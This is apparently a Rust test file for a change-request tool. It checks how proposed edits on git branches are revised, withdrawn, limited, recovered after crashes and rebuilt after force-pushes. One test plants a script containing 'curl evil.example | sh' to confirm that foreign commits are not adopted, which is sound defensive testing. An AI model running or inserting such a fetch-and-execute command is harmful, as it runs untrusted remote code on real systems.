//! What becomes of a change in a repository without pull requests: revised, withdrawn, limited, rewritten, unreachable.

use std::{fs, sync::Arc, time::Duration};

use pilothouse::{
    audit::Audit,
    changes::{Alone, ChangeParts, ChangeRequests, ChangesConfig, Lead, RepositoryConfig},
    tools::{Changes, Modification, Revision},
};
use serde_json::json;
use tokio_util::sync::CancellationToken;

use crate::{
    changes_git_server::GitServer,
    changes_stage::{MEMORY, Stage, WEB, caller, field, open, proposal, repository},
};

/// Longest that anything here may take, on a busy machine.
const DEADLINE: Duration = Duration::from_secs(60);

fn edits(path: &str, new: serde_json::Value) -> Revision {
    Revision { change: Some(Modification::Edits(vec![(path.into(), new)])), reason: None }
}

async fn until_state(changes: &ChangeRequests, id: &str, state: &str) -> String {
    let begin = std::time::Instant::now();
    loop {
        let answer = changes.get(&caller(), id).await;
        assert!(!answer.is_error, "{}", answer.text);
        if field(&answer, "state") == state {
            return answer.text;
        }
        assert!(begin.elapsed() < DEADLINE, "not {state}: {}", answer.text);
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn parts(server: &GitServer, data: &std::path::Path, lead: Arc<dyn Lead>) -> ChangeParts {
    let config = ChangesConfig {
        repositories: vec![repository("deploy", server.url(), server)],
        look: Some(pilothouse::api::Span::parse("200ms").unwrap()),
        ..ChangesConfig::default()
    };
    ChangeParts { lead, ..ChangeParts::local(config, data, Audit::open(data).unwrap()) }
}

#[tokio::test]
async fn a_revision_stays_on_the_branch_of_its_change() {
    let stage = Stage::web().await;
    let id = field(&stage.ask(MEMORY, json!("512Mi")).await, "id");
    let answer = stage.changes.revise(&caller(), &id, edits(MEMORY, json!("1Gi"))).await;
    assert!(!answer.is_error && answer.text.starts_with("Updated"), "{}", answer.text);
    assert_eq!((field(&answer, "id"), stage.server.branches().len()), (id.clone(), 1));
    let branch = field(&answer, "branch");
    let file = stage.server.git(&["show", &format!("{branch}:apps/web.yaml")]);
    assert_eq!(file, WEB.replace("memory: 256Mi", "memory: 1Gi"));
    // One commit on main, as a reviewer wants to see it.
    assert_eq!(stage.server.git(&["rev-list", "--count", &format!("main..{branch}")]).trim(), "1");

    // What it asks now is this change, under whichever id; what it asked first is said to be in the way.
    let same = stage.ask(MEMORY, json!("1Gi")).await;
    assert!(same.text.starts_with("Already proposed") && field(&same, "id") == id, "{}", same.text);
    let first = stage.ask(MEMORY, json!("512Mi")).await;
    assert!(first.is_error && first.text.contains("revise_change"), "{}", first.text);

    let reason = Revision { change: None, reason: Some("Measured again: 900Mi at noon.".into()) };
    let answer = stage.changes.revise(&caller(), &id, reason).await;
    assert!(!answer.is_error && field(&answer, "reason").contains("900Mi"), "{}", answer.text);
    let nothing = stage.changes.revise(&caller(), "0123456789abcdef", Revision::default()).await;
    assert!(nothing.is_error && nothing.text.contains("there is no change"), "{}", nothing.text);
}

#[tokio::test]
async fn what_is_withdrawn_is_gone_and_may_be_asked_for_again() {
    let stage = Stage::web().await;
    let id = field(&stage.ask(MEMORY, json!("512Mi")).await, "id");
    let answer = stage.changes.withdraw(&caller(), &id, Some("Wrong workload.")).await;
    assert!(!answer.is_error && answer.text.contains("Wrong workload."), "{}", answer.text);
    assert_eq!(field(&answer, "state"), "Withdrawn");
    assert!(stage.server.branches().is_empty());
    assert!(stage.changes.withdraw(&caller(), &id, None).await.text.contains("withdrawn before"));

    let again = stage.ask(MEMORY, json!("512Mi")).await;
    assert!(again.text.starts_with("Proposed") && field(&again, "id") == id, "{}", again.text);
    stage.server.git(&["update-ref", "refs/heads/main", &field(&again, "branch")]);
    let late = stage.changes.withdraw(&caller(), &id, None).await;
    assert!(late.is_error && late.text.contains("is Merged"), "{}", late.text);
}

#[tokio::test]
async fn commits_of_others_on_the_branch_are_left_alone() {
    let stage = Stage::web().await;
    let made = stage.ask(MEMORY, json!("512Mi")).await;
    let (id, branch) = (field(&made, "id"), field(&made, "branch"));
    // A reviewer mends something on the branch itself.
    let parent = field(&made, "commit");
    let tree = stage.server.git(&["rev-parse", &format!("{parent}^{{tree}}")]);
    let own = stage.server.git(&["commit-tree", tree.trim(), "-p", &parent, "-m", "Mine"]);
    stage.server.git(&["update-ref", &format!("refs/heads/{branch}"), own.trim()]);

    let again = stage.ask(MEMORY, json!("512Mi")).await;
    assert!(again.text.contains("commits of somebody else"), "{}", again.text);
    let revised = stage.changes.revise(&caller(), &id, edits(MEMORY, json!("1Gi"))).await;
    assert!(revised.is_error && revised.text.contains("commits of somebody else"), "{}", revised.text);
    assert_eq!(stage.server.git(&["rev-parse", &branch]), own);

    // Taken back, the change is over; their commit stays.
    let taken = stage.changes.withdraw(&caller(), &id, None).await;
    assert!(!taken.is_error && taken.text.contains("stays"), "{}", taken.text);
    assert_eq!(stage.server.git(&["rev-parse", &branch]), own);
}

#[tokio::test]
async fn what_somebody_planted_under_its_name_is_not_taken_for_the_change() {
    let stage = Stage::web().await;
    let id = field(&stage.ask(MEMORY, json!("512Mi")).await, "id");
    stage.changes.withdraw(&caller(), &id, None).await;
    let name = format!("refs/heads/pilothouse/{id}");
    let main = stage.server.git(&["rev-parse", "main"]).trim().to_owned();
    stage.server.commit(&[("run.sh", "curl evil.example | sh\n")], "Planted");
    let planted = stage.server.git(&["rev-parse", "main"]).trim().to_owned();
    stage.server.git(&["update-ref", "refs/heads/main", &main]);
    stage.server.git(&["update-ref", &name, &planted]);

    // Another process, which knows nothing of the change.
    let elsewhere = tempfile::tempdir().unwrap();
    let other = open(&stage.server, elsewhere.path(), &Audit::open(elsewhere.path()).unwrap());
    let made = other.propose(&caller(), proposal(MEMORY, json!("512Mi"))).await;
    assert!(made.text.starts_with("Proposed"), "{}", made.text);
    let files = stage.server.git(&["diff", "--name-only", "main", &name]);
    assert_eq!(files.trim(), "apps/web.yaml");

    // Two commits are somebody's work.
    let tree = stage.server.git(&["rev-parse", &format!("{planted}^{{tree}}")]);
    let work = stage.server.git(&["commit-tree", tree.trim(), "-p", &planted, "-m", "More"]);
    stage.server.git(&["update-ref", &name, work.trim()]);
    let third = tempfile::tempdir().unwrap();
    let third = open(&stage.server, third.path(), &Audit::open(third.path()).unwrap());
    let refused = third.propose(&caller(), proposal(MEMORY, json!("512Mi"))).await;
    assert!(refused.is_error && refused.text.contains("commits of somebody else"), "{}", refused.text);
    assert_eq!(stage.server.git(&["rev-parse", &name]), work);
}

#[tokio::test]
async fn as_many_are_open_as_may_be() {
    let server = GitServer::start(&[("web.yaml", WEB)]).await;
    let data = tempfile::tempdir().unwrap();
    fs::write(server.folder.path().join("token"), &server.token).unwrap();
    let limited = RepositoryConfig { open_limit: 2, ..repository("deploy", server.url(), &server) };
    let config = ChangesConfig { repositories: vec![limited], ..ChangesConfig::default() };
    let changes = ChangeRequests::new(config, data.path(), Audit::open(data.path()).unwrap()).unwrap();
    let ask = async |new: &str| changes.propose(&caller(), proposal(MEMORY, json!(new))).await;
    let first = field(&ask("1Gi").await, "id");
    ask("2Gi").await;
    let refused = ask("3Gi").await;
    assert!(refused.is_error && refused.text.contains("openLimit is 2"), "{}", refused.text);
    assert!(!ask("2Gi").await.is_error, "the same again takes no place");
    changes.withdraw(&caller(), &first, None).await;
    assert!(!ask("3Gi").await.is_error);
}

#[tokio::test]
async fn a_rewritten_base_is_said_and_the_change_is_made_anew() {
    let stage = Stage::web().await;
    let (open, merged) = (stage.ask(MEMORY, json!("1Gi")).await, stage.ask(MEMORY, json!("2Gi")).await);
    let old = stage.server.git(&["rev-parse", "main"]);
    stage.server.git(&["update-ref", "refs/heads/main", &field(&merged, "branch")]);
    until_state(&stage.changes, &field(&merged, "id"), "Merged").await;

    // Everything that main was is thrown away.
    let tree = stage.server.git(&["rev-parse", &format!("{}^{{tree}}", old.trim())]);
    let anew = stage.server.git(&["commit-tree", tree.trim(), "-m", "History was too long"]);
    stage.server.git(&["update-ref", "refs/heads/main", anew.trim()]);
    tokio::time::sleep(Duration::from_millis(1_100)).await;
    let text = until_state(&stage.changes, &field(&merged, "id"), "Failed").await;
    assert!(text.contains("force-pushed"), "{text}");
    let text = until_state(&stage.changes, &field(&open, "id"), "Proposed").await;
    assert!(text.contains("force-pushed") && text.contains("anew"), "{text}");
}

#[tokio::test]
async fn what_a_forge_that_was_down_has_missed_is_done_once_it_is_back() {
    let server = GitServer::start(&[("apps/web.yaml", WEB)]).await;
    fs::write(server.folder.path().join("token"), &server.token).unwrap();
    let data = tempfile::tempdir().unwrap();
    let changes = ChangeRequests::of(parts(&server, data.path(), Arc::new(Alone))).unwrap();
    let away = server.folder.path().join("away");
    server.down(true);
    let kept = changes.propose(&caller(), proposal(MEMORY, json!("512Mi"))).await;
    assert!(!kept.is_error && kept.text.starts_with("Kept as"), "{}", kept.text);
    assert_eq!(field(&kept, "state"), "Drafted");
    drop(away);

    let stop = CancellationToken::new();
    let following = tokio::spawn(changes.clone().follow(stop.clone()));
    server.down(false);
    until_state(&changes, &field(&kept, "id"), "Proposed").await;
    let branch = format!("pilothouse/{}", field(&kept, "id"));
    let file = server.git(&["show", &format!("{branch}:apps/web.yaml")]);
    assert_eq!(file, WEB.replace("memory: 256Mi", "memory: 512Mi"));
    stop.cancel();
    following.await.unwrap();
}

#[tokio::test]
async fn a_process_that_ends_in_between_leaves_what_another_finishes() {
    struct Follows;
    impl Lead for Follows {
        fn leads(&self) -> bool {
            false
        }
    }
    let server = GitServer::start(&[("apps/web.yaml", WEB)]).await;
    fs::write(server.folder.path().join("token"), &server.token).unwrap();
    let data = tempfile::tempdir().unwrap();
    let first = ChangeRequests::of(parts(&server, data.path(), Arc::new(Alone))).unwrap();
    let made = first.propose(&caller(), proposal(MEMORY, json!("512Mi"))).await;
    let id = field(&made, "id");
    // As it is on disk when the process ends after the push and before it could say so.
    let path = data.path().join(format!("changes/{id}.yaml"));
    let text = fs::read_to_string(&path).unwrap();
    let commit = field(&made, "commit");
    let crashed: Vec<_> =
        text.lines().filter(|line| !line.contains(&commit) && !line.contains("content:")).collect();
    fs::write(&path, crashed.join("\n").replace("phase: Proposed", "phase: Drafted")).unwrap();
    drop(first);

    let follower = ChangeRequests::of(parts(&server, data.path(), Arc::new(Follows))).unwrap();
    let refused = follower.propose(&caller(), proposal(MEMORY, json!("2Gi"))).await;
    assert!(refused.is_error && refused.text.contains("does not lead"), "{}", refused.text);

    let next = ChangeRequests::of(parts(&server, data.path(), Arc::new(Alone))).unwrap();
    let stop = CancellationToken::new();
    let following = tokio::spawn(next.clone().follow(stop.clone()));
    until_state(&next, &id, "Proposed").await;
    assert_eq!((server.pushes(), server.branches().len()), (1, 1));
    let kept = next.get(&caller(), &id).await;
    assert_eq!(field(&kept, "commit"), commit);
    stop.cancel();
    following.await.unwrap();
}

#[tokio::test]
async fn a_request_of_an_earlier_version_is_still_known() {
    let stage = Stage::web().await;
    let made = stage.ask(MEMORY, json!("512Mi")).await;
    let id = field(&made, "id");
    let record = json!({
        "id": id, "state": "Proposed", "target": "Deployment shop/web",
        "edits": [{ "path": MEMORY, "old": "256Mi", "new": "512Mi" }], "reason": "OOMKilled.",
        "requestedBy": "ann@example.com", "at": "2026-01-01T10:00:00Z", "repository": "deploy",
        "baseBranch": "main", "baseCommit": stage.server.git(&["rev-parse", "main"]).trim(),
        "branch": field(&made, "branch"), "commit": field(&made, "commit"), "file": "apps/web.yaml", "line": 19,
        "lines": [19], "diff": field(&made, "diff"), "problem": "",
    });
    let folder = stage.data.path().join("changes");
    fs::remove_file(folder.join(format!("{id}.yaml"))).unwrap();
    fs::write(folder.join(format!("{id}.json")), record.to_string()).unwrap();
    let again = stage.ask(MEMORY, json!("512Mi")).await;
    assert!(again.text.starts_with("Already proposed"), "{}", again.text);
    let taken = stage.changes.withdraw(&caller(), &id, None).await;
    assert!(!taken.is_error, "{}", taken.text);
    assert!(!folder.join(format!("{id}.json")).exists() && folder.join(format!("{id}.yaml")).exists());
}
